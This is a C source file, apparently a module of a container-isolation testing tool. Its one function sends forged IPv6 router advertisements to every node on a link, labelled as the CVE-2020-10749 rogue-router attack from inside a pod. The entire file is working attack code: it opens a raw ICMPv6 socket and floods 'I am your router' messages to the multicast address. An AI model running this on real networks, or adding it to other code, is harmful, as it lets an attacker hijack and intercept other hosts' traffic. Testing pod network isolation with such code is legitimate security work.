/* SPDX-License-Identifier: MIT */
/* What a pod may try on the network that it shares with others. */
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "attack.h"

/* CVE-2020-10749: "I am your router", to everybody on the link, once a second. */
int advertise(char **args)
{
	struct nd_router_advert ra;
	struct sockaddr_in6 all = {.sin6_family = AF_INET6};
	int hops = 255;
	int seconds = args[0] && args[1] ? (int)strtol(args[1], NULL, 10) : 5;
	int sent = 0;
	unsigned link = args[0] ? if_nametoindex(args[0]) : 0;
	int fd = socket(AF_INET6, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMPV6);

	if (fd < 0)
		return tell("advertise", errno);
	memset(&ra, 0, sizeof(ra));
	ra.nd_ra_type = ND_ROUTER_ADVERT;
	ra.nd_ra_curhoplimit = 64;
	ra.nd_ra_router_lifetime = htons(1800);
	inet_pton(AF_INET6, "ff02::1", &all.sin6_addr);
	all.sin6_scope_id = link;
	(void)setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof(hops));
	(void)setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_IF, &link, sizeof(link));
	for (int i = 0; i < seconds; i++, (void)sleep(1))
		sent += sendto(fd, &ra, sizeof(ra), 0, (struct sockaddr *)&all, sizeof(all)) > 0;
	close(fd);
	printf("advertised %d times\n", sent);
	return sent == 0;
}
